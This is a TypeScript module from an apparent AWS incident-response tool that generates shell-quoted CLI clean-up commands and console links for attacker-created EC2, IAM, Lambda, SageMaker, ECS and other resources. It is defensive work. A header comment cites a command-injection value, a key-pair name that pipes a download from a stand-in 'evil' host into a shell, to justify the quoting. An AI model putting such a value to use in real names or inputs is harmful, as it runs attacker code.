/**
 * The clean-up line and console link of each kind of item. Nothing here runs anything: the lines go in the
 * report for a person to review and paste.
 *
 * Every value that comes from the account (names, ids, tags) is shell-quoted. The attacker chose many of
 * those names, and a key pair called `x; curl evil | sh` must stay a name when a responder pastes the line.
 * Commands are joined with ` && ` so a failed step stops the rest (deleting a user whose keys could not be
 * deleted only fails with DeleteConflict, but the order still matters for roles and policies).
 */

export interface CleanupInfo {
  cleanup: string;
  consoleUrl: string;
}

const CONSOLE = 'https://console.aws.amazon.com';
/** A no-op shell line for items that need nothing (a terminated instance, a cancelled request). */
const NOTHING = '# nothing to remove';

/** POSIX shell quoting: bare when safe, otherwise single quotes with embedded quotes escaped. */
export function sh(value: string): string {
  if (/^[A-Za-z0-9_./:=@+,%-]+$/.test(value)) return value;
  return `'${value.replaceAll("'", `'\\''`)}'`;
}

const and = (...lines: string[]) => lines.filter((l) => l.length > 0).join(' && ');
const enc = encodeURIComponent;
const ec2Console = (region: string, fragment: string) =>
  `${CONSOLE}/ec2/home?region=${enc(region)}#${fragment}`;
const iamConsole = (fragment: string) => `${CONSOLE}/iam/home#/${fragment}`;

// ---------------------------------------------------------------------------------------------- EC2

export interface InstanceCleanupOptions {
  state?: string;
  /** Set for Spot Instances: a persistent request would launch a replacement, so it is cancelled first. */
  spotInstanceRequestId?: string;
  /** From the `aws:ec2spot:fleet-request-id` tag: a maintained fleet replaces terminated instances. */
  spotFleetRequestId?: string;
  /** From the `aws:ec2:fleet-id` tag. */
  ec2FleetId?: string;
  /** From the `aws:autoscaling:groupName` tag: the group replaces terminated instances. */
  autoScalingGroup?: string;
}

export function ec2InstanceCleanup(region: string, instanceId: string, o: InstanceCleanupOptions = {}) {
  const r = `--region ${sh(region)}`;
  const id = sh(instanceId);
  const consoleUrl = ec2Console(region, `InstanceDetails:instanceId=${enc(instanceId)}`);
  if (o.state === 'terminated' || o.state === 'shutting-down') return { cleanup: NOTHING, consoleUrl };
  return {
    cleanup: and(
      // Whatever would launch a replacement goes first, or the miner comes back a minute later.
      o.autoScalingGroup
        ? `aws autoscaling delete-auto-scaling-group ${r} --auto-scaling-group-name ${sh(o.autoScalingGroup)} --force-delete`
        : '',
      o.spotFleetRequestId
        ? `aws ec2 cancel-spot-fleet-requests ${r} --spot-fleet-request-ids ${sh(o.spotFleetRequestId)} --terminate-instances`
        : '',
      o.ec2FleetId ? `aws ec2 delete-fleets ${r} --fleet-ids ${sh(o.ec2FleetId)} --terminate-instances` : '',
      o.spotInstanceRequestId
        ? `aws ec2 cancel-spot-instance-requests ${r} --spot-instance-request-ids ${sh(o.spotInstanceRequestId)}`
        : '',
      // Attackers turn on termination protection so a hurried clean-up fails; turning it off is harmless.
      `aws ec2 modify-instance-attribute ${r} --instance-id ${id} --no-disable-api-termination`,
      `aws ec2 terminate-instances ${r} --instance-ids ${id}`,
    ),
    consoleUrl,
  };
}

export function ec2SpotRequestCleanup(region: string, requestId: string, state?: string): CleanupInfo {
  const done = state === 'cancelled' || state === 'closed' || state === 'failed';
  return {
    // Cancelling a request does not terminate its instance: that is the instance item's line.
    cleanup: done
      ? NOTHING
      : `aws ec2 cancel-spot-instance-requests --region ${sh(region)} --spot-instance-request-ids ${sh(requestId)}`,
    consoleUrl: ec2Console(region, `SpotInstances:search=${enc(requestId)}`),
  };
}

export function ec2KeyPairCleanup(region: string, keyName: string, keyPairId?: string): CleanupInfo {
  // The id is unambiguous; a name can be reused after deletion.
  const which = keyPairId ? `--key-pair-id ${sh(keyPairId)}` : `--key-name ${sh(keyName)}`;
  return {
    cleanup: `aws ec2 delete-key-pair --region ${sh(region)} ${which}`,
    consoleUrl: ec2Console(region, `KeyPairs:search=${enc(keyName)}`),
  };
}

/** One ingress permission as EC2 describes it, reduced to the ranges open to the internet. */
export interface OpenPermission {
  IpProtocol: string;
  FromPort?: number;
  ToPort?: number;
  IpRanges?: { CidrIp: string }[];
  Ipv6Ranges?: { CidrIpv6: string }[];
}

/** Revokes exactly the rules open to 0.0.0.0/0 or ::/0 and leaves the group and its other rules alone. */
export function ec2SecurityGroupCleanup(
  region: string,
  groupId: string,
  open: OpenPermission[],
): CleanupInfo {
  return {
    cleanup: `aws ec2 revoke-security-group-ingress --region ${sh(region)} --group-id ${sh(groupId)} --ip-permissions ${sh(JSON.stringify(open))}`,
    consoleUrl: ec2Console(region, `SecurityGroup:groupId=${enc(groupId)}`),
  };
}

/** Who an AMI or snapshot is shared with: `all` (public), account ids, organizations or OUs. */
export interface Sharing {
  public: boolean;
  accounts: string[];
  organizations?: string[];
  organizationalUnits?: string[];
}

export const isShared = (s: Sharing) =>
  s.public ||
  s.accounts.length > 0 ||
  (s.organizations ?? []).length > 0 ||
  (s.organizationalUnits ?? []).length > 0;

/**
 * A shared image loses its sharing (that stops the copying now); an unshared one, listed because it is new,
 * is deregistered with its snapshots (deregistering alone leaves the snapshots, and their bill).
 */
export function ec2ImageCleanup(
  region: string,
  imageId: string,
  sharing: Sharing,
  snapshotIds: string[] = [],
) {
  const r = `--region ${sh(region)}`;
  const consoleUrl = ec2Console(region, `ImageDetails:imageId=${enc(imageId)}`);
  if (isShared(sharing)) {
    const removals = [
      ...(sharing.public ? ['{Group=all}'] : []),
      ...sharing.accounts.map((a) => `{UserId=${a}}`),
      ...(sharing.organizations ?? []).map((a) => `{OrganizationArn=${a}}`),
      ...(sharing.organizationalUnits ?? []).map((a) => `{OrganizationalUnitArn=${a}}`),
    ];
    return {
      cleanup: `aws ec2 modify-image-attribute ${r} --image-id ${sh(imageId)} --launch-permission ${sh(`Remove=[${removals.join(',')}]`)}`,
      consoleUrl,
    };
  }
  return {
    cleanup: and(
      `aws ec2 deregister-image ${r} --image-id ${sh(imageId)}`,
      ...snapshotIds.map((s) => `aws ec2 delete-snapshot ${r} --snapshot-id ${sh(s)}`),
    ),
    consoleUrl,
  };
}

export function ec2SnapshotCleanup(region: string, snapshotId: string, sharing: Sharing): CleanupInfo {
  const base = `aws ec2 modify-snapshot-attribute --region ${sh(region)} --snapshot-id ${sh(snapshotId)} --attribute createVolumePermission --operation-type remove`;
  const consoleUrl = ec2Console(region, `SnapshotDetails:snapshotId=${enc(snapshotId)}`);
  if (isShared(sharing)) {
    return {
      cleanup: and(
        sharing.public ? `${base} --group-names all` : '',
        sharing.accounts.length > 0 ? `${base} --user-ids ${sharing.accounts.map(sh).join(' ')}` : '',
      ),
      consoleUrl,
    };
  }
  return {
    cleanup: `aws ec2 delete-snapshot --region ${sh(region)} --snapshot-id ${sh(snapshotId)}`,
    consoleUrl,
  };
}

export interface VolumeAttachment {
  instanceId: string;
  deleteOnTermination?: boolean;
}

export function ec2VolumeCleanup(
  region: string,
  volumeId: string,
  attachments: VolumeAttachment[],
): CleanupInfo {
  const r = `--region ${sh(region)}`;
  const id = sh(volumeId);
  const consoleUrl = ec2Console(region, `VolumeDetails:volumeId=${enc(volumeId)}`);
  if (attachments.length > 0 && attachments.every((a) => a.deleteOnTermination === true)) {
    // A root volume cannot be detached from a running instance; it goes when its instance is terminated.
    const instances = attachments.map((a) => sh(a.instanceId)).join(' ');
    return {
      cleanup: `aws ec2 wait instance-terminated ${r} --instance-ids ${instances}  # the volume is deleted with its instance (DeleteOnTermination): terminate the instance first`,
      consoleUrl,
    };
  }
  return {
    cleanup:
      attachments.length > 0
        ? // Detaching is asynchronous: the waiter keeps delete-volume from failing with VolumeInUse.
          and(
            `aws ec2 detach-volume ${r} --volume-id ${id}`,
            `aws ec2 wait volume-available ${r} --volume-ids ${id}`,
            `aws ec2 delete-volume ${r} --volume-id ${id}`,
          )
        : `aws ec2 delete-volume ${r} --volume-id ${id}`,
    consoleUrl,
  };
}

// ---------------------------------------------------------------------------------------------- IAM

export interface UserState {
  accessKeyIds: string[];
  hasLoginProfile: boolean;
  attachedPolicyArns: string[];
  inlinePolicyNames: string[];
  groups: string[];
}

/**
 * IAM refuses to delete a user that still has a password, keys, policies or groups (DeleteConflict), so
 * those go first, in the order the console uses. MFA devices, SSH keys, signing certificates and
 * service-specific credentials are not listed by the reader; if the user has any, delete-user says so.
 */
export function iamUserCleanup(userName: string, s: UserState): CleanupInfo {
  const u = `--user-name ${sh(userName)}`;
  return {
    cleanup: and(
      s.hasLoginProfile ? `aws iam delete-login-profile ${u}` : '',
      ...s.accessKeyIds.map((k) => `aws iam delete-access-key ${u} --access-key-id ${sh(k)}`),
      ...s.attachedPolicyArns.map((p) => `aws iam detach-user-policy ${u} --policy-arn ${sh(p)}`),
      ...s.inlinePolicyNames.map((p) => `aws iam delete-user-policy ${u} --policy-name ${sh(p)}`),
      ...s.groups.map((g) => `aws iam remove-user-from-group ${u} --group-name ${sh(g)}`),
      `aws iam delete-user ${u}`,
    ),
    consoleUrl: iamConsole(`users/details/${enc(userName)}`),
  };
}

export function iamAccessKeyCleanup(userName: string, accessKeyId: string): CleanupInfo {
  return {
    cleanup: `aws iam delete-access-key --user-name ${sh(userName)} --access-key-id ${sh(accessKeyId)}`,
    consoleUrl: iamConsole(`users/details/${enc(userName)}?section=security_credentials`),
  };
}

export function iamLoginProfileCleanup(userName: string): CleanupInfo {
  return {
    cleanup: `aws iam delete-login-profile --user-name ${sh(userName)}`,
    consoleUrl: iamConsole(`users/details/${enc(userName)}?section=security_credentials`),
  };
}

export interface RoleState {
  attachedPolicyArns: string[];
  inlinePolicyNames: string[];
  instanceProfiles: string[];
}

export function iamRoleCleanup(roleName: string, s: RoleState): CleanupInfo {
  const r = `--role-name ${sh(roleName)}`;
  return {
    cleanup: and(
      ...s.instanceProfiles.map(
        (p) => `aws iam remove-role-from-instance-profile --instance-profile-name ${sh(p)} ${r}`,
      ),
      ...s.attachedPolicyArns.map((p) => `aws iam detach-role-policy ${r} --policy-arn ${sh(p)}`),
      ...s.inlinePolicyNames.map((p) => `aws iam delete-role-policy ${r} --policy-name ${sh(p)}`),
      `aws iam delete-role ${r}`,
    ),
    consoleUrl: iamConsole(`roles/details/${enc(roleName)}`),
  };
}

/**
 * For a role that predates the incident and whose trust policy the key rewrote: deleting it would break
 * whoever uses it, so the line restores the trust policy from a document the responder prepares (the
 * previous one is in the CloudTrail record of the last legitimate CreateRole or UpdateAssumeRolePolicy).
 */
export function iamRoleTrustRestore(roleName: string): CleanupInfo {
  return {
    cleanup: `aws iam update-assume-role-policy --role-name ${sh(roleName)} --policy-document file://previous-trust-policy.json`,
    consoleUrl: iamConsole(`roles/details/${enc(roleName)}?section=trust_relationships`),
  };
}

export interface PolicyState {
  /** Entities the policy is attached to. */
  users: string[];
  roles: string[];
  groups: string[];
  /** Versions other than the default: DeletePolicy refuses while they exist. */
  nonDefaultVersionIds: string[];
}

export function iamPolicyCleanup(policyArn: string, s: PolicyState): CleanupInfo {
  const p = `--policy-arn ${sh(policyArn)}`;
  return {
    cleanup: and(
      ...s.users.map((u) => `aws iam detach-user-policy --user-name ${sh(u)} ${p}`),
      ...s.roles.map((r) => `aws iam detach-role-policy --role-name ${sh(r)} ${p}`),
      ...s.groups.map((g) => `aws iam detach-group-policy --group-name ${sh(g)} ${p}`),
      ...s.nonDefaultVersionIds.map((v) => `aws iam delete-policy-version ${p} --version-id ${sh(v)}`),
      `aws iam delete-policy ${p}`,
    ),
    consoleUrl: iamConsole(`policies/details/${enc(policyArn)}`),
  };
}

/** The default version cannot be deleted: the previous version becomes the default first. */
export function iamPolicyVersionCleanup(
  policyArn: string,
  versionId: string,
  isDefault: boolean,
  previousVersionId?: string,
): CleanupInfo {
  const p = `--policy-arn ${sh(policyArn)}`;
  return {
    cleanup: and(
      isDefault && previousVersionId
        ? `aws iam set-default-policy-version ${p} --version-id ${sh(previousVersionId)}`
        : '',
      `aws iam delete-policy-version ${p} --version-id ${sh(versionId)}`,
    ),
    consoleUrl: iamConsole(`policies/details/${enc(policyArn)}?section=versions`),
  };
}

export function iamOidcProviderCleanup(arn: string): CleanupInfo {
  return {
    cleanup: `aws iam delete-open-id-connect-provider --open-id-connect-provider-arn ${sh(arn)}`,
    consoleUrl: iamConsole(`identity_providers/details/OPENID/${enc(arn)}`),
  };
}

export function iamSamlProviderCleanup(arn: string): CleanupInfo {
  return {
    cleanup: `aws iam delete-saml-provider --saml-provider-arn ${sh(arn)}`,
    consoleUrl: iamConsole(`identity_providers/details/SAML/${enc(arn)}`),
  };
}

// ---------------------------------------------------------------------------------------------- SES, Lightsail, Lambda

export function sesIdentityCleanup(region: string, identity: string): CleanupInfo {
  return {
    cleanup: `aws ses delete-identity --region ${sh(region)} --identity ${sh(identity)}`,
    consoleUrl: `${CONSOLE}/ses/home?region=${enc(region)}#/identities/${enc(identity)}`,
  };
}

/** Pauses all sending from the Region; reversible with --enabled. */
export function sesSendingCleanup(region: string): CleanupInfo {
  return {
    cleanup: `aws ses update-account-sending-enabled --region ${sh(region)} --no-enabled`,
    consoleUrl: `${CONSOLE}/ses/home?region=${enc(region)}#/account`,
  };
}

export function lightsailInstanceCleanup(region: string, name: string): CleanupInfo {
  return {
    cleanup: `aws lightsail delete-instance --region ${sh(region)} --instance-name ${sh(name)}`,
    consoleUrl: `https://lightsail.aws.amazon.com/ls/webapp/${enc(region)}/instances/${enc(name)}/connect`,
  };
}

const lambdaConsole = (region: string, fn: string, tab = '') =>
  `${CONSOLE}/lambda/home?region=${enc(region)}#/functions/${enc(fn)}${tab}`;

export function lambdaFunctionCleanup(region: string, functionName: string): CleanupInfo {
  return {
    cleanup: `aws lambda delete-function --region ${sh(region)} --function-name ${sh(functionName)}`,
    consoleUrl: lambdaConsole(region, functionName),
  };
}

export function lambdaFunctionUrlCleanup(region: string, functionName: string, qualifier?: string) {
  return {
    cleanup: `aws lambda delete-function-url-config --region ${sh(region)} --function-name ${sh(functionName)}${qualifier ? ` --qualifier ${sh(qualifier)}` : ''}`,
    consoleUrl: lambdaConsole(region, functionName, '?tab=configure'),
  };
}

export function lambdaPermissionCleanup(region: string, functionName: string, statementId: string) {
  return {
    cleanup: `aws lambda remove-permission --region ${sh(region)} --function-name ${sh(functionName)} --statement-id ${sh(statementId)}`,
    consoleUrl: lambdaConsole(region, functionName, '?tab=configure'),
  };
}

// ---------------------------------------------------------------------------------------------- SageMaker, ECS, CodeBuild

const sagemakerConsole = (region: string, fragment: string) =>
  `${CONSOLE}/sagemaker/home?region=${enc(region)}#/${fragment}`;

/** A notebook must be stopped before it can be deleted; the waiter keeps delete from failing. */
export function sagemakerNotebookCleanup(region: string, name: string, status?: string): CleanupInfo {
  const r = `--region ${sh(region)}`;
  const n = `--notebook-instance-name ${sh(name)}`;
  const consoleUrl = sagemakerConsole(region, `notebook-instances/${enc(name)}`);
  if (status === 'Deleting') return { cleanup: NOTHING, consoleUrl };
  const running = status !== 'Stopped' && status !== 'Failed';
  return {
    cleanup: and(
      running ? `aws sagemaker stop-notebook-instance ${r} ${n}` : '',
      running ? `aws sagemaker wait notebook-instance-stopped ${r} ${n}` : '',
      `aws sagemaker delete-notebook-instance ${r} ${n}`,
    ),
    consoleUrl,
  };
}

/** Training jobs cannot be deleted; one still running is stopped, a finished one needs nothing. */
export function sagemakerTrainingJobCleanup(region: string, name: string, status?: string): CleanupInfo {
  const running = status === 'InProgress';
  return {
    cleanup: running
      ? `aws sagemaker stop-training-job --region ${sh(region)} --training-job-name ${sh(name)}`
      : NOTHING,
    consoleUrl: sagemakerConsole(region, `jobs/${enc(name)}`),
  };
}

/** Deleting the endpoint stops its instances; the endpoint config is left (it costs nothing). */
export function sagemakerEndpointCleanup(region: string, name: string): CleanupInfo {
  return {
    cleanup: `aws sagemaker delete-endpoint --region ${sh(region)} --endpoint-name ${sh(name)}`,
    consoleUrl: sagemakerConsole(region, `endpoints/${enc(name)}`),
  };
}

const ecsConsole = (region: string, path: string) =>
  `${CONSOLE}/ecs/v2/clusters/${path}?region=${enc(region)}`;

/**
 * ECS refuses to delete a cluster with active services or running tasks, so its services are deleted
 * (with --force, which also stops their tasks) first. Container instances (EC2 launch type) are EC2
 * instance items of their own and are deregistered when terminated.
 */
export function ecsClusterCleanup(region: string, cluster: string, serviceNames: string[] = []): CleanupInfo {
  const r = `--region ${sh(region)}`;
  const c = `--cluster ${sh(cluster)}`;
  return {
    cleanup: and(
      ...serviceNames.map((s) => `aws ecs delete-service ${r} ${c} --service ${sh(s)} --force`),
      `aws ecs delete-cluster ${r} ${c}`,
    ),
    consoleUrl: ecsConsole(region, `${enc(cluster)}/services`),
  };
}

/** --force deletes a service that still has a desired count, stopping its tasks. */
export function ecsServiceCleanup(region: string, cluster: string, service: string): CleanupInfo {
  return {
    cleanup: `aws ecs delete-service --region ${sh(region)} --cluster ${sh(cluster)} --service ${sh(service)} --force`,
    consoleUrl: ecsConsole(region, `${enc(cluster)}/services/${enc(service)}/health`),
  };
}

/** A task a service started comes back when stopped: the service item's line is the one that ends it. */
export function ecsTaskCleanup(region: string, cluster: string, taskId: string, service?: string) {
  const stop = `aws ecs stop-task --region ${sh(region)} --cluster ${sh(cluster)} --task ${sh(taskId)}`;
  return {
    cleanup: service
      ? and(
          `aws ecs delete-service --region ${sh(region)} --cluster ${sh(cluster)} --service ${sh(service)} --force`,
          stop,
        )
      : stop,
    consoleUrl: ecsConsole(region, `${enc(cluster)}/tasks/${enc(taskId)}/configuration`),
  };
}

/** Builds in progress keep running after the project is deleted, so they are stopped first. */
export function codebuildProjectCleanup(region: string, name: string, runningBuildIds: string[] = []) {
  const r = `--region ${sh(region)}`;
  return {
    cleanup: and(
      ...runningBuildIds.map((b) => `aws codebuild stop-build ${r} --id ${sh(b)}`),
      `aws codebuild delete-project ${r} --name ${sh(name)}`,
    ),
    consoleUrl: `${CONSOLE}/codesuite/codebuild/projects/${enc(name)}?region=${enc(region)}`,
  };
}

// ---------------------------------------------------------------------------------------------- guard rails

export interface TrailRepair {
  /** Logging is stopped: start it. */
  stopped: boolean;
  /** Management events are excluded: the selectors to put back (the trail's own, with management events on). */
  eventSelectors?: unknown[];
  advancedEventSelectors?: unknown[];
}

/** Calls are made in the trail's home Region with its ARN, which also works for organization trails. */
export function trailCleanup(homeRegion: string, trailArn: string, repair: TrailRepair): CleanupInfo {
  const r = `--region ${sh(homeRegion)}`;
  const t = sh(trailArn);
  const lines = [
    repair.stopped ? `aws cloudtrail start-logging ${r} --name ${t}` : '',
    repair.eventSelectors
      ? `aws cloudtrail put-event-selectors ${r} --trail-name ${t} --event-selectors ${sh(JSON.stringify(repair.eventSelectors))}`
      : '',
    repair.advancedEventSelectors
      ? `aws cloudtrail put-event-selectors ${r} --trail-name ${t} --advanced-event-selectors ${sh(JSON.stringify(repair.advancedEventSelectors))}`
      : '',
  ].filter((l) => l.length > 0);
  return {
    cleanup: lines.length > 0 ? and(...lines) : NOTHING,
    consoleUrl: `${CONSOLE}/cloudtrail/home?region=${enc(homeRegion)}#/trails/${enc(trailArn)}`,
  };
}

/**
 * A deleted trail is recreated. Its bucket is not in the DeleteTrail record, so the line takes it from
 * TRAIL_BUCKET and stops with a clear message when that is unset, rather than carrying a placeholder a
 * shell would read as a redirection.
 */
export function deletedTrailCleanup(region: string, name: string): CleanupInfo {
  const r = `--region ${sh(region)}`;
  return {
    cleanup: and(
      `aws cloudtrail create-trail ${r} --name ${sh(name)} --s3-bucket-name "\${TRAIL_BUCKET:?set TRAIL_BUCKET to the log bucket}" --is-multi-region-trail`,
      `aws cloudtrail start-logging ${r} --name ${sh(name)}`,
    ),
    consoleUrl: `${CONSOLE}/cloudtrail/home?region=${enc(region)}#/trails`,
  };
}

export function detectorCleanup(region: string, detectorId: string, deleted: boolean): CleanupInfo {
  return {
    cleanup: deleted
      ? `aws guardduty create-detector --region ${sh(region)} --enable`
      : `aws guardduty update-detector --region ${sh(region)} --detector-id ${sh(detectorId)} --enable`,
    consoleUrl: `${CONSOLE}/guardduty/home?region=${enc(region)}#/settings`,
  };
}
